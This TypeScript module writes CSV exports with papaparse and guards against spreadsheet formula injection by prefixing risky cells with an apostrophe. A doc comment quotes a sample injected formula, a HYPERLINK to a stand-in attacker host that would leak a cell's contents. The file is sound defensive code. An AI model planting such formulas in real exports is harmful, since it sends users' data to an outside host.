import Papa from 'papaparse';

/** A cell of an export: text, a number, a time (written one way: ISO 8601 UTC), or empty. */
export type CsvCell = string | number | boolean | Date | null | undefined;

/** Text that a spreadsheet would read as a formula: it starts with = + - @, a tab or a carriage return (OWASP). */
const FORMULA_START = /^[=+\-@\t\r]/;
/** A plain number written as text ("-12.5", "3e-4") is data, not a formula, and stays as it is. */
const PLAIN_NUMBER = /^[+-]?(\d+\.?\d*|\.\d+)([eE][+-]?\d+)?$/;
/** A UTC offset ("-06:00", exportTime.ts) is data too: a spreadsheet reads it as a time, never as a formula. */
const UTC_OFFSET = /^[+-]\d\d:\d\d$/;
/** The UTF-8 byte-order mark: spreadsheets then read names with accents (Señal, Müller) right. */
export const CSV_BOM = '\uFEFF';

/**
 * A cell as it is written. Text that would start a formula gets a leading apostrophe, so a device named
 * `=HYPERLINK("http://evil.example/?d="&A2,"Click")` is shown, never evaluated, in everyone's spreadsheet.
 */
export function csvCellText(cell: CsvCell): string {
  if (cell === null || cell === undefined) return '';
  if (cell instanceof Date) return Number.isNaN(cell.getTime()) ? '' : cell.toISOString();
  if (typeof cell === 'number') return Number.isFinite(cell) ? String(cell) : '';
  if (typeof cell === 'boolean') return cell ? 'true' : 'false';
  return FORMULA_START.test(cell) && !PLAIN_NUMBER.test(cell) && !UTC_OFFSET.test(cell) ? `'${cell}` : cell;
}

const PAPA_OPTIONS = { quotes: true, newline: '\r\n', header: false } as const;

/**
 * The one CSV writer of every download (directory, readings, the Table tab, purchase-order devices): papaparse's
 * unparse with every field quoted, CRLF line ends and a UTF-8 byte-order mark; cells through csvCellText.
 */
export function toCsv(header: readonly string[], rows: readonly (readonly CsvCell[])[]): string {
  return `${CSV_BOM}${csvLines([header, ...rows])}`;
}

/**
 * Rows as toCsv writes them, each line with its CRLF: the file is `CSV_BOM + csvLines([header]) + csvLines(rows)...`
 * for rows in any number of pieces, so a download streamed a batch at a time has the same bytes as one built whole.
 */
export function csvLines(rows: readonly (readonly CsvCell[])[]): string {
  if (rows.length === 0) return '';
  return `${Papa.unparse(
    rows.map((r) => r.map(csvCellText)),
    PAPA_OPTIONS,
  )}\r\n`;
}

/** A file name without the characters file systems refuse. */
export function exportFileName(base: string, extension: string): string {
  return `${base.replace(/[\\/:*?"<>|\u0000-\u001f]+/g, '_')}.${extension}`;
}
